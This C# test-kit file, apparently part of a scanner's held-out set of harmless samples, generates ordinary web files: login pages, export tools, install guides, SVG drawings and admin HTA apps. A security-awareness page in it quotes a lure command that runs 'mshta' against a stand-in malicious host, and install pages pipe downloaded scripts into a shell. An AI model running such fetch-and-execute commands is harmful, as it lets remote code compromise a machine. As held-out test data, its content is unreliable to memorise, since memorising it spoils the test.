using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Sixth;

/// <summary>Sign-in pages of a firm's own site, of devices and of programs.</summary>
public sealed class SignInPagesOfOwnSites : SixthHarmless
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Files()
    {
        yield return ("login.html", Utf8("""
            <!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Kestrel Foods - Staff portal</title><link rel="stylesheet" href="/static/site.css"></head>
            <body><header><img src="/static/kestrel.svg" alt="Kestrel Foods"></header><main><h1>Staff portal</h1>
            <form method="post" action="/account/login"><input type="hidden" name="csrf" value="8f14e45fceea167a"><label>E-mail <input name="email" type="email" autocomplete="username"></label>
            <label>Password <input name="password" type="password" autocomplete="current-password"></label><button>Sign in</button></form>
            <p><a href="/account/forgot">Forgot your password?</a> Or <a href="https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=00000000-0000-0000-0000-000000000000&response_type=code&redirect_uri=https%3A%2F%2Fportal.kestrel-foods.example%2Fsignin">sign in with Microsoft</a>.</p></main></body></html>
            """));

        yield return ("wp-login.php.html", Utf8("""
            <!DOCTYPE html><html lang="de-DE"><head><meta charset="UTF-8"><title>Anmelden &lsaquo; Buchhandlung Seeberg &#8212; WordPress</title></head><body class="login wp-core-ui">
            <div id="login"><h1><a href="https://de.wordpress.org/">Powered by WordPress</a></h1>
            <form name="loginform" id="loginform" action="https://buch-seeberg.example/wp-login.php" method="post"><p><label for="user_login">Benutzername oder E-Mail-Adresse</label><input type="text" name="log" id="user_login"></p>
            <p><label for="user_pass">Passwort</label><input type="password" name="pwd" id="user_pass"></p><p><input name="rememberme" type="checkbox" value="forever"> Angemeldet bleiben</p><input type="submit" name="wp-submit" value="Anmelden"><input type="hidden" name="redirect_to" value="https://buch-seeberg.example/wp-admin/"></form>
            <script>function wp_attempt_focus(){setTimeout(function(){try{document.getElementById("user_login").focus()}catch(e){}},200)}wp_attempt_focus();</script></div></body></html>
            """));

        yield return ("router.htm", Utf8("""
            <html><head><title>Router - Setup</title><script src="md5.js"></script><script>
            function doLogin() {
              var p = document.getElementById("pcPassword").value, n = document.getElementById("nonce").value;
              document.cookie = "Authorization=" + encodeURIComponent("Basic " + hex_md5(n + p)) + ";path=/";
              location.href = "/userRpm/Index.htm";
            }
            </script></head><body onload="document.getElementById('pcPassword').focus()"><h2>Wireless Router</h2><input id="nonce" type="hidden" value="7a91"><input id="pcPassword" type="password"><button onclick="doLogin()">Login</button></body></html>
            """));

        yield return ("spa.html", Utf8("""
            <!DOCTYPE html><html><head><meta charset="utf-8"><title>Tradewind</title></head><body><div id="app"></div><script type="module">
            const api = "https://api.tradewind.example/v1";
            document.getElementById("app").innerHTML = `<form id="f"><input name="user"><input name="pass" type="password"><label><input type="checkbox" id="show"> show</label><button>Log in</button><p id="m"></p></form>`;
            document.getElementById("show").onchange = e => document.querySelector("[name=pass]").type = e.target.checked ? "text" : "password";
            document.getElementById("f").onsubmit = async e => {
              e.preventDefault();
              const r = await fetch(api + "/sessions", { method: "POST", credentials: "include", headers: { "Content-Type": "application/json" }, body: JSON.stringify(Object.fromEntries(new FormData(e.target))) });
              if (r.ok) location.assign("/dashboard"); else document.getElementById("m").textContent = "Wrong user name or password.";
            };
            </script></body></html>
            """));
    }
}

/// <summary>Pages that save what the visitor made: tables, pictures, calendars, keys.</summary>
public sealed class PagesThatExport : SixthHarmless
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Files()
    {
        yield return ("export.html", Utf8("""
            <!DOCTYPE html><html><head><title>Hours</title></head><body><table id="t"><tr><th>Day</th><th>Hours</th></tr><tr><td>Mon</td><td>8</td></tr></table><button id="x">Export CSV</button><script>
            document.getElementById("x").addEventListener("click", function () {
              var lines = [].map.call(document.querySelectorAll("#t tr"), function (row) { return [].map.call(row.cells, function (c) { return '"' + c.textContent.replace(/"/g, '""') + '"'; }).join(","); });
              var blob = new Blob(["\ufeff" + lines.join("\r\n")], { type: "text/csv;charset=utf-8" });
              if (window.navigator.msSaveOrOpenBlob) { window.navigator.msSaveOrOpenBlob(blob, "hours.csv"); return; }
              var a = document.createElement("a"); a.href = URL.createObjectURL(blob); a.download = "hours.csv";
              document.body.appendChild(a); a.click(); document.body.removeChild(a); URL.revokeObjectURL(a.href);
            });
            </script></body></html>
            """));

        yield return ("sketch.html", Utf8(Fill("""
            <!DOCTYPE html><html><head><title>Sketch</title></head><body><canvas id="c" width="300" height="200"></canvas><a id="s" download="sketch.png">Save</a><script>
            const c = document.getElementById("c"), g = c.getContext("2d");
            const paper = new Image(); paper.onload = () => g.drawImage(paper, 0, 0); paper.src = "data:image/png;base64,@@1";
            c.onpointermove = e => { if (e.buttons) g.fillRect(e.offsetX, e.offsetY, 3, 3); };
            document.getElementById("s").onclick = function () { const d = atob(c.toDataURL().split(",")[1]), u = new Uint8Array(d.length); for (let i = 0; i < d.length; i++) u[i] = d.charCodeAt(i); this.href = URL.createObjectURL(new Blob([u], { type: "image/png" })); };
            </script></body></html>
            """, Convert.ToBase64String(PngBuilder.Build(4, 4, 8, 0, [0, 1, 2, 3, 4, 0, 5, 6, 7, 8, 0, 1, 2, 3, 4, 0, 9, 9, 9, 9])))));

        yield return ("Termin.html", Utf8("""
            <!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>Tag der offenen Tür</title></head><body><h1>Tag der offenen Tür</h1><p>Samstag, 5. Dezember 2026, 10 Uhr</p>
            <a download="termin.ics" href="data:text/calendar;charset=utf-8,BEGIN%3AVCALENDAR%0D%0AVERSION%3A2.0%0D%0ABEGIN%3AVEVENT%0D%0ADTSTART%3A20261205T090000Z%0D%0ASUMMARY%3ATag%20der%20offenen%20T%C3%BCr%0D%0AEND%3AVEVENT%0D%0AEND%3AVCALENDAR">In den Kalender</a></body></html>
            """));

        yield return ("password-tool.html", Utf8("""
            <!DOCTYPE html><html><head><meta charset="utf-8"><title>Password generator</title></head><body><input id="p" readonly><button id="n">New</button><button id="c">Copy</button><button id="k">Save key file</button><script>
            const make = () => document.getElementById("p").value = btoa(String.fromCharCode(...crypto.getRandomValues(new Uint8Array(18))));
            document.getElementById("n").onclick = make; make();
            document.getElementById("c").onclick = () => navigator.clipboard.writeText(document.getElementById("p").value);
            document.getElementById("k").onclick = () => { const a = Object.assign(document.createElement("a"), { href: URL.createObjectURL(new Blob([crypto.getRandomValues(new Uint8Array(64))])), download: "vault.key" }); a.click(); };
            </script></body></html>
            """));
    }
}

/// <summary>Pages that quote commands for the reader to copy: installation guides, help, warnings of the security team.</summary>
public sealed class PagesThatQuoteCommands : SixthHarmless
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Files()
    {
        yield return ("install.html", Utf8("""
            <!DOCTYPE html><html><head><title>Installing the harbour CLI</title><link rel="canonical" href="https://docs.harbour-cli.example/install"></head><body><h1>Install</h1>
            <h2>Windows</h2><pre id="w">powershell -NoProfile -ExecutionPolicy Bypass -c "irm https://get.harbour-cli.example/install.ps1 | iex"</pre><button data-copy="w">Copy</button>
            <h2>Linux and macOS</h2><pre id="l">curl -fsSL https://get.harbour-cli.example/install.sh | sh</pre><button data-copy="l">Copy</button>
            <p>Verify the download with the SHA-256 sums on the <a href="https://github.com/harbour-cli/harbour/releases">releases page</a>.</p>
            <script>document.querySelectorAll("[data-copy]").forEach(b => b.onclick = () => navigator.clipboard.writeText(document.getElementById(b.dataset.copy).textContent).then(() => b.textContent = "Copied"));</script></body></html>
            """));

        yield return ("awareness.html", Utf8("""
            <!DOCTYPE html><html lang="en"><head><title>Security news: "paste this to prove you are human"</title></head><body><h1>Do not paste commands from web pages</h1>
            <p>In November several colleagues saw a false "I'm not a robot" page that asked them to press <b>Win + R</b>, then <b>Ctrl + V</b> and <b>Enter</b>. The page had put a command such as <code>mshta https://bad-site.example/x</code> or <code>powershell -w hidden ...</code> on the clipboard.</p>
            <p>No real check asks for that. If it happened to you, disconnect the network and call the service desk (extension 4444).</p></body></html>
            """));

        yield return ("Netzlaufwerk.html", Utf8("""
            <!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>Anleitung: Netzlaufwerk verbinden</title></head><body><h1>Netzlaufwerk verbinden</h1><ol><li>Drücken Sie <kbd>Windows</kbd> + <kbd>R</kbd>.</li><li>Geben Sie <code>\\fs01.seitz-pumpen.example\daten</code> ein und bestätigen Sie mit <kbd>Enter</kbd>.</li><li>Dauerhaft: <code>net use S: \\fs01.seitz-pumpen.example\daten /persistent:yes</code></li></ol>
            <p>Drucker: <a href="file://fs01.seitz-pumpen.example/drucker/">Ordner öffnen</a>. Fernhilfe: <a href="ms-quick-assist:">Remotehilfe starten</a>.</p></body></html>
            """));

        yield return ("driver-help.mht", Dos("""
            From: <Saved by Blink>
            Snapshot-Content-Location: https://support.scanner-maker.example/driver
            Subject: Driver help
            MIME-Version: 1.0
            Content-Type: multipart/related; type="text/html"; boundary="----MultipartBoundary--x"

            ------MultipartBoundary--x
            Content-Type: text/html
            Content-Transfer-Encoding: quoted-printable
            Content-Location: https://support.scanner-maker.example/driver

            <!DOCTYPE html><html><body><h1>Silent installation</h1><p>Run as administrator:</p><pre>msiexec =
            /i ScanDriver.msi /qn REBOOT=3DReallySuppress</pre><p>If the service does not start: <code>sc start ScanSvc</code>, =
            <code>reg query HKLM\Software\ScanMaker</code>.</p><a href=3D"https://download.scanner-maker.example/ScanDriver-4.1.exe">Download (14 MB)</a></body></html>
            ------MultipartBoundary--x--
            """));
    }
}

/// <summary>Vector drawings as designers, chart programs and web sites make them.</summary>
public sealed class DrawingsOfDesigners : SixthHarmless
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Files()
    {
        yield return ("chart.svg", Utf8("""
            <svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 300 120" onload="init(evt)"><style>.b{fill:#38c}.b:hover{fill:#e83}</style>
            <script type="text/ecmascript"><![CDATA[
            var tip; function init(e) { tip = e.target.ownerDocument.getElementById("tip"); }
            function show(n, v) { tip.firstChild.data = n + ": " + v; } function hide() { tip.firstChild.data = " "; }
            ]]></script>
            <rect class="b" x="10" y="40" width="40" height="60" onmouseover="show('Q1', 60)" onmouseout="hide()"/><rect class="b" x="60" y="20" width="40" height="80" onmouseover="show('Q2', 80)" onmouseout="hide()"/><text id="tip" x="10" y="115"> </text></svg>
            """));

        yield return ("flow.svg", Utf8("""
            <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="321" height="81" content="&lt;mxfile host=&quot;app.diagrams.net&quot;&gt;&lt;/mxfile&gt;"><g><rect x="0" y="0" width="120" height="60" fill="#dae8fc" stroke="#6c8ebf"/><switch><foreignObject width="118" height="58" requiredFeatures="http://www.w3.org/TR/SVG11/feature#Extensibility"><div xmlns="http://www.w3.org/1999/xhtml" style="text-align:center">User enters<br/>password</div></foreignObject><text x="60" y="34">User enters...</text></switch></g><a xlink:href="https://www.diagrams.net/doc/faq/svg-export-text-problems" target="_blank"><text x="0" y="78" font-size="10">Text is not SVG - cannot display</text></a></svg>
            """));

        yield return ("spinner.svg", Utf8("""
            <?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 50 50"><circle cx="25" cy="25" r="20" fill="none" stroke="#0067b8" stroke-width="4" stroke-dasharray="90 40"><animateTransform attributeName="transform" type="rotate" from="0 25 25" to="360 25 25" dur="1s" repeatCount="indefinite"/></circle></svg>
            """));

        yield return ("map.svg", Utf8(Fill("""
            <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" width="200" height="100"><title>Standorte</title><image width="200" height="100" xlink:href="data:image/png;base64,@@1"/><a xlink:href="https://www.seitz-pumpen.example/standorte/kiel"><circle cx="60" cy="30" r="6" fill="red"/></a><a xlink:href="https://www.seitz-pumpen.example/standorte/ulm"><circle cx="80" cy="80" r="6" fill="red"/></a></svg>
            """, Convert.ToBase64String(PngBuilder.Build(2, 2, 8, 0, [0, 250, 240, 0, 230, 250])))));
    }
}

/// <summary>HTML applications that administrators write for their users and for themselves.</summary>
public sealed class ApplicationsOfAdministrators : SixthHarmless
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Files()
    {
        yield return ("inventory.hta", Dos("""
            <html><head><title>Computer inventory</title><HTA:APPLICATION ID="inv" APPLICATIONNAME="Inventory" SCROLL="yes" SINGLEINSTANCE="yes">
            <script language="VBScript">
            Sub ShowComputer
              Dim wmi, item, html
              Set wmi = GetObject("winmgmts:{impersonationLevel=impersonate}!\\" & txtName.Value & "\root\cimv2")
              For Each item In wmi.ExecQuery("SELECT Caption, FreePhysicalMemory FROM Win32_OperatingSystem")
                html = html & "<tr><td>" & item.Caption & "</td><td>" & Round(item.FreePhysicalMemory / 1024) & " MB free</td></tr>"
              Next
              out.InnerHTML = "<table border=1>" & html & "</table>"
            End Sub
            </script></head><body><input id="txtName" value="."><button onclick="ShowComputer">Show</button><div id="out"></div></body></html>
            """));

        yield return ("software.hta", Dos(""""
            <html><head><title>Software auswählen</title><hta:application id="sw" border="dialog" maximizebutton="no" icon="setup.ico"/>
            <script language="VBScript">
            Const Share = "\\deploy.seitz-pumpen.example\software$"
            Sub Install(package)
              Dim shell, code
              Set shell = CreateObject("WScript.Shell")
              code = shell.Run("msiexec.exe /i """ & Share & "\" & package & """ /qb REBOOT=Suppress", 1, True)
              If code = 0 Then MsgBox package & " wurde installiert." Else MsgBox "Fehler " & code & ". Bitte die IT anrufen (4444).", vbExclamation
            End Sub
            </script></head><body><h3>Software der Firma Seitz</h3><button onclick="Install('viewer-5.2.msi')">CAD-Betrachter</button> <button onclick="Install('pdf-11.msi')">PDF-Programm</button></body></html>
            """"));

        yield return ("guestbook.hta", Dos("""
            <html><head><title>Visitors</title><HTA:APPLICATION WINDOWSTATE="maximize">
            <script type="text/javascript">
            function save() {
              var fso = new ActiveXObject("Scripting.FileSystemObject");
              var file = fso.OpenTextFile("visitors.csv", 8, true);
              file.WriteLine([new Date().toLocaleString(), document.getElementById("n").value, document.getElementById("f").value].join(";"));
              file.Close(); document.getElementById("n").value = document.getElementById("f").value = "";
            }
            </script></head><body><h1>Welcome</h1>Name <input id="n"> Company <input id="f"> <button onclick="save()">Sign in</button></body></html>
            """));

        yield return ("newuser.hta", Dos("""
            <html><head><title>New user</title><HTA:APPLICATION ID="nu" SHOWINTASKBAR="yes">
            <script language="VBScript">
            Sub CreateUser
              Dim ou, user
              Set ou = GetObject("LDAP://ou=Staff,dc=millbrook,dc=example")
              Set user = ou.Create("user", "cn=" & fullName.Value)
              user.Put "sAMAccountName", account.Value
              user.SetInfo
              user.SetPassword firstPassword.Value
              user.AccountDisabled = False
              user.Put "pwdLastSet", 0
              user.SetInfo
              MsgBox "Created. The user must change the password at the first logon."
            End Sub
            </script></head><body>Name <input id="fullName"> Account <input id="account"> First password <input id="firstPassword" type="password"> <input type="button" value="Create" onclick="CreateUser"></body></html>
            """));
    }
}
